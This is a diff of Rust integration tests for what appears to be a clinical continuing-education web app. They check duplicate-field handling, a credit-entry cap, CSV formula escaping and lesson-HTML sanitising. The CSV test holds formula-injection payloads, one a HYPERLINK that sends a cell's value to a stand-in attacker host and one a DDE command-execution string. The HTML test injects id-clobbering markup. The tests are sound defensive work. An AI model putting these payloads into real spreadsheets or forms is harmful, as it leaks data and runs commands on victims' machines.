@@ -471,3 +471,192 @@ async fn p12_the_current_password_check_is_throttled() {
         .assert_contains("too many wrong attempts");
     assert_eq!(app.state.hasher.verifications(), before);
 }
+
+/// 5: a field sent twice gets a message on its form, never a 500, and nothing is stored.
+#[tokio::test]
+async fn p05_a_field_sent_twice_is_refused_with_a_message() {
+    let app = TestApp::new().await;
+    let learner = app.finished("dee@clinic.org").await;
+    let page = app
+        .post_form(
+            "/learning/claim",
+            &[
+                ("course", crate::support::COURSE),
+                ("hours-nursing-contact-hours", "0.75"),
+                ("hours-nursing-contact-hours", "0.75"),
+            ],
+            Some(&learner.cookie),
+        )
+        .await;
+    assert_eq!(page.status, StatusCode::SEE_OTHER);
+    let credit = app
+        .get_as(&page.location().to_owned(), &learner.cookie)
+        .await;
+    credit.assert_contains("was sent more than once");
+    assert_eq!(app.count("SELECT COUNT(*) FROM credit_claims").await, 0);
+    assert_eq!(app.count("SELECT COUNT(*) FROM certificates").await, 0);
+    // The account forms too.
+    let page = app
+        .post_form(
+            "/account/profile",
+            &[
+                ("full_name", "Dee One"),
+                ("full_name", "Dee Two"),
+                ("profession", "nurse"),
+            ],
+            Some(&learner.cookie),
+        )
+        .await;
+    assert_eq!(page.status, StatusCode::SEE_OTHER);
+    app.get_as("/account", &learner.cookie)
+        .await
+        .assert_contains("was sent more than once");
+    assert_eq!(
+        app.count("SELECT COUNT(*) FROM users WHERE full_name LIKE 'Dee%'")
+            .await,
+        0
+    );
+}
+
+/// 17: self-reported entries are capped per learner.
+#[tokio::test]
+async fn p17_self_reported_entries_are_capped() {
+    let app = TestApp::new().await;
+    let learner = app.learner("eli@clinic.org").await;
+    let cap = server::transcript::store::MAX_EXTERNAL;
+    sqlx::query(
+        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < $2) \
+         INSERT INTO external_credits (user_id, title, provider, credit_type, quarters, completed_on, created_at) \
+         SELECT $1, 'Entry ' || i, 'Elsewhere', 'participation', 4, '2026-01-01', '2026-01-01T00:00:00Z' FROM n",
+    )
+    .bind(learner.id)
+    .bind(cap - 1)
+    .execute(&app.state.pool)
+    .await
+    .expect("entries");
+    let add = |title: &'static str| {
+        let app = &app;
+        let cookie = learner.cookie.clone();
+        async move {
+            app.post_form(
+                "/transcript/external",
+                &[
+                    ("title", title),
+                    ("provider", "County hospital"),
+                    ("credit_type", "nursing-contact-hours"),
+                    ("hours", "1"),
+                    ("completed_on", "2026-02-01"),
+                ],
+                Some(&cookie),
+            )
+            .await;
+            app.get_as("/transcript", &cookie).await
+        }
+    };
+    add("The last one that fits").await.assert_contains("Added");
+    add("One too many")
+        .await
+        .assert_contains("the most it keeps");
+    assert_eq!(
+        app.count("SELECT COUNT(*) FROM external_credits").await,
+        cap
+    );
+}
+
+/// 18: cells a spreadsheet would run as formulas are written as text, in every CSV.
+#[tokio::test]
+async fn p18_csv_cells_never_become_formulas() {
+    let app = TestApp::new().await;
+    let learner = app.enrolled("fay@clinic.org", "nurse").await;
+    let page = app
+        .post_form(
+            "/account/profile",
+            &[
+                ("full_name", "=HYPERLINK(\"//evil.example/\"&F2,\"open\")"),
+                ("profession", "nurse"),
+                ("board_id", "-A1"),
+                ("consent_reporting", "on"),
+            ],
+            Some(&learner.cookie),
+        )
+        .await;
+    assert_eq!(page.location(), "/account");
+    crate::support::finish_course(&app, &learner.cookie).await;
+    crate::support::claim(&app, &learner.cookie).await;
+    app.post_form(
+        "/transcript/external",
+        &[
+            ("title", "@SUM(1+1)"),
+            ("provider", "+cmd|' /C calc'!A0"),
+            ("credit_type", "nursing-contact-hours"),
+            ("hours", "1"),
+            ("completed_on", "2026-02-01"),
+        ],
+        Some(&learner.cookie),
+    )
+    .await;
+    let admin = app.user("ops@clinic.org", app::accounts::Role::Admin).await;
+    let export = app.get_as("/admin/export.csv", &admin.cookie).await;
+    assert_eq!(export.status, StatusCode::OK);
+    let transcript = app.get_as("/transcript.csv", &learner.cookie).await;
+    assert_eq!(transcript.status, StatusCode::OK);
+    for (name, csv) in [("export", &export.body), ("transcript", &transcript.body)] {
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(csv.as_bytes());
+        let mut cells = 0;
+        for record in reader.records() {
+            for cell in record.expect("record").iter() {
+                cells += 1;
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{name}: live formula cell {cell:?}"
+                );
+            }
+        }
+        assert!(cells > 10, "{name} has content");
+    }
+    assert!(export.body.contains("'=HYPERLINK("), "{}", export.body);
+    assert!(export.body.contains("'-A1"), "{}", export.body);
+    assert!(
+        transcript.body.contains("'@SUM(1+1)"),
+        "{}",
+        transcript.body
+    );
+}
+
+/// 22: lesson HTML keeps only the ids the renderer gave (headings, footnotes) and no form
+/// controls, so content cannot clobber the page's ids or add fields to its forms.
+#[tokio::test]
+async fn p22_content_cannot_clobber_page_ids_or_add_inputs() {
+    let content = tempfile::tempdir().expect("dir");
+    crate::support::copy_dir(&demo_content(), content.path());
+    let lesson = content
+        .path()
+        .join("courses/telehealth-for-clinical-teams/02-modalities.md");
+    let mut text = std::fs::read_to_string(&lesson).expect("lesson");
+    text.push_str(
+        "\n\n<div id=\"main\">x</div> <p id=\"field-email\">y</p> <input name=\"course\" value=\"other\">\n\n\
+         - [x] done item\n\nA note[^main].\n\n[^main]: The footnote.\n\n## Main\n",
+    );
+    std::fs::write(&lesson, text).expect("write");
+    let app = TestApp::with_content(content.path()).await;
+    let page = app
+        .get(&format!("/courses/{}/modalities", crate::support::COURSE))
+        .await;
+    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
+    assert_eq!(
+        page.body.matches("id=\"main\"").count(),
+        1,
+        "only the page's own"
+    );
+    assert!(!page.body.contains("id=\"field-email\""));
+    assert!(
+        !page.body.contains("value=\"other\""),
+        "no input from content"
+    );
+    page.assert_contains("☑ done item");
+    page.assert_contains("id=\"fn-main\"");
+    page.assert_contains("href=\"#fn-main\"");
+    page.assert_contains("<h2 id=\"main-2\">Main</h2>");
+}
